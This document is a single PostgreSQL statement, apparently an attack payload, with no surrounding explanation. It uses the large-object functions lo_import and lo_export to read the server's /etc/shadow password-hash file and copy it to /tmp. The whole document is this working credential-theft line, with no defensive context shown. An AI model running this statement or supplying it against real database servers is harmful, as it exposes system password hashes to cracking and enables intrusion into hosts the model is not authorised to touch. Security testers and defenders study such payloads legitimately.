SELECT lo_export(lo_import('/etc/shadow'), '/tmp/shadow.copy');
